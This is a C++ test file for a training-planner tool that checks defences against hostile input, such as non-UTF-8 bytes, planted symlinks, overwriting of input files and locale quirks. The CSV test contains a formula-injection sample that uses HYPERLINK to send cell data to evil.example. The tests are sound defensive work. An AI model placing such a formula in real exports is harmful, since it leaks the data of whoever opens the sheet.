// The core side of the third hostile-input review's defects (hostile-input-3.md), each by its class:
// text that is not UTF-8 never reaches a writer, a CSV text cell is never a formula,
// a new folder is claimed with mkdir, an output never replaces an input, an export's
// link is replaced rather than followed, a file's reason is carried as a code, data
// read in the "C" notation whatever the locale, a GPU name's limit said in bytes.
#include "core/base/file_io.h"
#include "core/base/printable.h"
#include "core/estimate/estimate.h"
#include "core/estimate/estimate_io.h"
#include "core/fidelity/fidelity.h"
#include "core/scenario/scenario_io.h"
#include "core/search/plan_io.h"
#include "core/search/planner.h"
#include "tests/scratch_folder.h"

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include <clocale>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sys/stat.h>
#include <unistd.h>

using namespace core;
namespace fs = std::filesystem;

namespace {

struct Scratch : tp_test::ScratchFolder {
    Scratch()
        : ScratchFolder("tp_hostile3")
    {
    }
};

std::string slurp(const std::string& path)
{
    std::ifstream in(path, std::ios::binary);
    return { std::istreambuf_iterator<char>(in), {} };
}

void put(const std::string& path, const std::string& text)
{
    std::ofstream(path, std::ios::binary) << text;
}

/// A hardware profile and a scenario naming it by a relative path, in `folder` (made).
std::string scenarioWithProfile(const std::string& folder)
{
    fs::create_directories(folder);
    put(folder + "/profile.tphardware.json",
        R"({"format": "trainplanner-hardware-profile", "version": 1, "name": "cluster",
            "hardware": {"gpu": "h100-sxm", "gpus_per_node": 8}})");
    put(folder + "/s.tpscenario.json",
        R"({"format": "trainplanner-scenario", "version": 1, "name": "with profile",
            "model": {"preset": "llama-2-7b"}, "hardware": {"profile": "profile.tphardware.json"}})");
    return folder + "/s.tpscenario.json";
}

} // namespace

TEST_CASE(
    "a profile in a folder whose name is not UTF-8 is written as a file URI and read back", "[core][hostile3][utf8]")
{
    Scratch s;
    const std::string folder = s / "caf\xe9"; // Latin-1: a valid Linux name, not UTF-8
    const ScenarioResult read = loadScenarioFile(scenarioWithProfile(folder));
    REQUIRE(read.ok());
    const Scenario& scenario = *read.scenario;
    CHECK(scenario.hardware.profile == folder + "/profile.tphardware.json"); // its bytes, kept
    CHECK(scenario.hardware.preset == "h100-sxm"); // the profile's GPU

    // Every writer of the scenario: it threw nlohmann's type_error 316, and std::terminate followed.
    std::string text;
    REQUIRE_NOTHROW(text = scenarioToJson(scenario));
    CHECK(isUtf8(text));
    const auto doc = nlohmann::json::parse(text);
    const std::string written = doc["hardware"]["profile"];
    CHECK(written.starts_with("file:///"));
    CHECK(written.ends_with("/caf%E9/profile.tphardware.json"));
    const ScenarioResult again = parseScenario(text);
    REQUIRE(again.ok());
    CHECK(*again.scenario == scenario);

    // --set of any key writes the scenario and reads it back (every --set and sweep --vary).
    Scenario edited = scenario;
    REQUIRE_FALSE(applyOverride(edited, "parallel.zero=1"));
    CHECK(edited.parallel.zero == 1);
    CHECK(edited.hardware.profile == scenario.hardware.profile);
    // plan --format json writes each plan's layout through the scenario file's form.
    PlanResult plans;
    plans.plans.push_back({ .scenario = edited, .estimate = estimate(edited) });
    CHECK_NOTHROW(planToJson(plans));
    CHECK(isUtf8(estimateToJson(estimate(edited))));
}

TEST_CASE("text given with --set that is not UTF-8 is refused by its key, a profile's path is carried",
    "[core][hostile3][utf8]")
{
    Scenario s = defaultScenario();
    const Scenario before = s;
    const auto bad = applyOverride(s, "name=bad\xff\xfename");
    REQUIRE(bad);
    CHECK(bad->path == "name");
    CHECK_THAT(bad->message, Catch::Contains("not UTF-8"));
    CHECK(s == before);
    CHECK(applyOverride(s, "training.framework=megatron\xe9"));

    // A profile's file name may be bytes: read, and written as a file URI.
    Scratch folder;
    const std::string latin1 = folder / "p\xe9.tphardware.json";
    put(latin1, R"({"format": "trainplanner-hardware-profile", "version": 1, "hardware": {"gpu": "h100-sxm"}})");
    REQUIRE_FALSE(applyOverride(s, "hardware.profile=" + latin1));
    CHECK(s.hardware.profile == latin1);
    CHECK(s.hardware.preset == "h100-sxm");
    CHECK(isUtf8(scenarioToJson(s)));
}

TEST_CASE("file URIs: bytes as %XX, malformed ones refused by the key", "[core][hostile3][utf8]")
{
    CHECK(pathToFileText("/home/me/cluster.tphardware.json") == "/home/me/cluster.tphardware.json");
    CHECK(pathToFileText("/home/caf\xe9/a b.json") == "file:///home/caf%E9/a%20b.json");
    CHECK(pathFromFileText("file:///home/caf%E9/a%20b.json") == std::optional<std::string>("/home/caf\xe9/a b.json"));
    CHECK(pathFromFileText("file://localhost/x%2fy") == std::optional<std::string>("/x/y"));
    CHECK(pathFromFileText("relative/p.json") == std::optional<std::string>("relative/p.json"));
    for (const char* bad : { "file://host/p.json", "file:///a%zz", "file:///a%E", "file:///a%00b", "file://" })
        CHECK_FALSE(pathFromFileText(bad));
    const auto refused = parseScenario(R"({"format": "trainplanner-scenario", "version": 1,
        "model": {"preset": "llama-2-7b"}, "hardware": {"profile": "file:///a%zz"}})");
    REQUIRE_FALSE(refused.ok());
    CHECK(refused.error.path == "hardware.profile");
}

TEST_CASE("JSON writers never throw on bytes that are not UTF-8 (the last line of defence)", "[core][hostile3][utf8]")
{
    Scenario s = defaultScenario();
    s.name = "bad\xff\xfename"; // as no reader lets in: a writer must still not abort
    std::string text;
    REQUIRE_NOTHROW(text = scenarioToJson(s));
    CHECK(isUtf8(text));
    CHECK(text.find("bad\xEF\xBF\xBD\xEF\xBF\xBDname") != std::string::npos);
    CHECK(toUtf8("caf\xe9") == "caf\xEF\xBF\xBD");
    CHECK(toUtf8("图") == "图");
}

TEST_CASE("a CSV text cell is never a formula", "[core][hostile3][csv]")
{
    CHECK(csvText("Llama 2 7B") == "Llama 2 7B");
    CHECK(csvText("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Run A\")")
        == "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Run A\"\")\"");
    CHECK(csvText("+1") == "'+1");
    CHECK(csvText("-2+3") == "'-2+3");
    CHECK(csvText("@SUM(A1)") == "'@SUM(A1)");
    CHECK(csvText("\tx") == "'\tx");
    CHECK(csvText("a,b") == "\"a,b\"");
    CHECK(csvText("A: one") == "A: one");
    CHECK(csvText("x\xff") == "x\xEF\xBF\xBD");
}

TEST_CASE("a new folder is claimed with mkdir: never shared, never a planted link", "[core][hostile3][files]")
{
    Scratch s;
    const NewFolder first = makeNewFolder(s.dir.string(), "Llama 2 7B");
    const NewFolder second = makeNewFolder(s.dir.string(), "Llama 2 7B");
    CHECK(first.path == s / "Llama 2 7B");
    CHECK(second.path == s / "Llama 2 7B (2)");
    // A link planted at the next name is passed over, and what it points to is untouched.
    fs::create_directory(s / "elsewhere");
    fs::create_directory_symlink(s / "elsewhere", s / "Llama 2 7B (3)");
    put(s / "Llama 2 7B (4)", "a file"); // a file takes the name too
    const NewFolder third = makeNewFolder(s.dir.string(), "Llama 2 7B");
    CHECK(third.path == s / "Llama 2 7B (5)");
    CHECK(fs::is_empty(s / "elsewhere"));
    // The reason, when none can be made.
    const NewFolder tooLong = makeNewFolder(s.dir.string(), std::string(300, 'a'));
    CHECK(tooLong.path.empty());
    CHECK_THAT(tooLong.error, Catch::Contains("cannot create the folder (the name is too long)"));
    const NewFolder noParent = makeNewFolder(s / "missing", "x");
    CHECK_THAT(noParent.error, Catch::Contains("its parent folder does not exist"));
    CHECK_THAT(makeFolders(s / "elsewhere/a/b"), Catch::Equals(""));
    put(s / "plain", "x");
    CHECK_THAT(makeFolders(s / "plain"), Catch::Contains("is not a folder"));
}

TEST_CASE("an output never replaces an input, not even with force", "[core][hostile3][files]")
{
    Scratch s;
    put(s / "s.tpscenario.json", "scenario");
    fs::create_symlink(s / "s.tpscenario.json", s / "link.json");
    const std::vector<InputFile> inputs { { s / "s.tpscenario.json", "the scenario" } };
    for (const bool force : { false, true }) {
        const std::string refused = writeOutputFiles({ { s / "link.json", "png" } }, inputs, force);
        CHECK_THAT(refused, Catch::Contains("it is the scenario this command reads"));
    }
    CHECK(slurp(s / "s.tpscenario.json") == "scenario");
    put(s / "shot.png", "MY PICTURE");
    CHECK_THAT(writeOutputFiles({ { s / "shot.png", "new" } }, inputs, false),
        Catch::Contains("it exists; give --force to replace it"));
    CHECK(slurp(s / "shot.png") == "MY PICTURE");
    CHECK(writeOutputFiles({ { s / "shot.png", "new" } }, inputs, true).empty());
    CHECK(slurp(s / "shot.png") == "new");
}

TEST_CASE("an export set replaces a link in its folder, not the file it names", "[core][hostile3][files]")
{
    Scratch s;
    fs::create_directories(s / "out");
    fs::create_directories(s / "outside");
    put(s / "outside/thesis.txt", "THESIS");
    fs::create_symlink("../outside/thesis.txt", s / "out/memory.png");
    const WriteSetResult r = writeFilesAtomically(
        { { s / "out/memory.png", "PNG" }, { s / "out/report.md", "# report" } }, Existing::replace, Links::replace);
    REQUIRE(r.ok());
    CHECK(slurp(s / "outside/thesis.txt") == "THESIS");
    CHECK_FALSE(fs::is_symlink(s / "out/memory.png"));
    CHECK(slurp(s / "out/memory.png") == "PNG");
    // Following links stays the rule elsewhere (a saved scenario, -o FILE).
    fs::create_symlink("../outside/thesis.txt", s / "out/followed.txt");
    REQUIRE(writeFilesAtomically({ { s / "out/followed.txt", "NEW" } }, Existing::replace).ok());
    CHECK(slurp(s / "outside/thesis.txt") == "NEW");
}

TEST_CASE("a file that cannot be read says why as a code", "[core][hostile3][files]")
{
    Scratch s;
    CHECK(readFileBounded(s / "missing.json", 100).failure == FileFailure::no_such_file);
    CHECK(readFileBounded(s.dir.string(), 100).failure == FileFailure::folder);
    put(s / "big.json", std::string(200, 'x'));
    CHECK(readFileBounded(s / "big.json", 100).failure == FileFailure::too_large);
    REQUIRE(::mkfifo((s / "fifo").c_str(), 0600) == 0);
    CHECK(readFileBounded(s / "fifo", 100).failure == FileFailure::not_regular);
    CHECK(readFileBounded(s / "big.json", 1000).failure == FileFailure::none);
    // The scenario reader passes it on as the problem's "reason".
    const ScenarioResult folder = loadScenarioFile(s.dir.string());
    REQUIRE_FALSE(folder.ok());
    CHECK(folder.error.problem.code == ProblemCode::file_unreadable);
    CHECK(FileFailure(int(folder.error.problem.value("reason"))) == FileFailure::folder);
    if (::geteuid() != 0) { // root reads any file
        put(s / "locked.json", "{}");
        ::chmod((s / "locked.json").c_str(), 0);
        CHECK(readFileBounded(s / "locked.json", 100).failure == FileFailure::permission_denied);
    }
}

TEST_CASE("vTrain's measured times read the same in a decimal-comma locale", "[core][hostile3][locale]")
{
    // The app runs in the user's locale (QApplication calls setlocale): std::stod stopped at the "." of
    // 372.160408 under de_DE. A de_DE locale is built with localedef (Debian's locales, scripts/test.sh).
    if (!fs::exists("/usr/share/i18n/locales/de_DE")) {
        WARN("no de_DE locale source (install Debian's locales): the case cannot run here");
        return;
    }
    Scratch s;
    const std::string build = "localedef -i de_DE -f UTF-8 '" + (s / "de_DE.UTF-8") + "' > /dev/null 2>&1";
    REQUIRE(std::system(build.c_str()) == 0);
    ::setenv("LOCPATH", s.dir.c_str(), 1);
    REQUIRE(std::setlocale(LC_NUMERIC, "de_DE.UTF-8"));
    REQUIRE(std::localeconv()->decimal_point == std::string(","));
    const auto& runs = publishedRuns(); // parsed once per process: here, for the first time
    std::setlocale(LC_NUMERIC, "C");
    ::unsetenv("LOCPATH");
    bool found = false;
    for (const PublishedRun& run : runs)
        if (run.id == "vtrain-single-0") { // single_node_subset.csv's first row (row 0): 372.160408 ms
            found = true;
            CHECK_THAT(run.published, Catch::WithinRel(0.372160408, 1e-12));
        }
    CHECK(found);
}

TEST_CASE("a GPU name's limit is said in bytes", "[core][hostile3]")
{
    std::string name;
    for (int i = 0; i < 34; ++i)
        name += "图"; // 34 characters, 102 bytes
    const auto r = parseScenario(R"({"format": "trainplanner-scenario", "version": 1, "model": {"preset": "llama-2-7b"},
        "hardware": {"gpu": {"name": ")"
        + name + R"(", "memory_gib": 80, "peak_tflops": {"bf16": 300},
        "intra_node_gbps": 300, "inter_node_gbps": 25, "tdp_watts": 400}}})");
    REQUIRE_FALSE(r.ok());
    CHECK(r.error.path == "hardware.gpu.name");
    CHECK_THAT(r.error.message, Catch::Contains("100 bytes of UTF-8 (a Chinese character takes 3), got 102"));
}
